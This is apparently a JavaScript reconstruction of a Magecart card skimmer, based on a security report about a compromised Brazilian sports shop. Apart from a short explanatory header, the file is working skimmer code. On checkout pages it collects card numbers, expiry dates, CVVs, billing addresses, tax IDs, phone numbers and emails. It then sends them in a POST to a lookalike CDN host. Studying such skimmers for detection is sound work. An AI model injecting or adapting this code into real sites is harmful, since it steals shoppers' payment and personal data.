// umbro-rival, written from Malwarebytes Labs' report on two competing Magecart skimmers found
// on the same shop, Umbro Brasil (Jérôme Segura, November 2018): the first of the two, a
// plain skimmer added to the shop's pages. On the checkout it polls the billing and card
// fields every second and, when a card number, expiry and security code are all there,
// sends them with the billing details once, JSON in an XMLHttpRequest POST to a host
// made to look like the shop's own CDN.
(function () {
  if (!/checkout|onepage|pagamento|finalizar/i.test(location.href)) return;
  var gate = "https://northwind-outfitters-cdn.invalid/js/jquery.min.php";
  var fields = {
    number: ["cc_number", "payment[cc_number]", "cardNumber", "numero_cartao"],
    exp_m: ["cc_exp_month", "payment[cc_exp_month]", "validade_mes"],
    exp_y: ["cc_exp_year", "payment[cc_exp_year]", "validade_ano"],
    cvv: ["cc_cid", "payment[cc_cid]", "cvv", "codigo_seguranca"],
    owner: ["cc_owner", "payment[cc_owner]", "nome_cartao"],
    name: ["billing[firstname]", "firstname"],
    last: ["billing[lastname]", "lastname"],
    street: ["billing[street][]", "street[0]"],
    city: ["billing[city]", "city"],
    zip: ["billing[postcode]", "postcode"],
    cpf: ["billing[taxvat]", "taxvat", "cpf"],
    phone: ["billing[telephone]", "telephone"],
    email: ["billing[email]", "email"]
  };
  function val(names) {
    for (var i = 0; i < names.length; i++) {
      var el = document.getElementsByName(names[i])[0] || document.getElementById(names[i]);
      if (el && el.value) return el.value;
    }
    return "";
  }
  var done = false;
  var timer = setInterval(function () {
    if (done) return clearInterval(timer);
    var out = {};
    for (var k in fields) out[k] = val(fields[k]);
    if (out.number.replace(/\D/g, "").length < 13 || !out.exp_m || out.cvv.length < 3) return;
    done = true;
    out.site = location.hostname;
    var x = new XMLHttpRequest();
    x.open("POST", gate, true);
    x.setRequestHeader("Content-Type", "application/json;charset=UTF-8");
    x.send(JSON.stringify(out));
  }, 1000);
})();
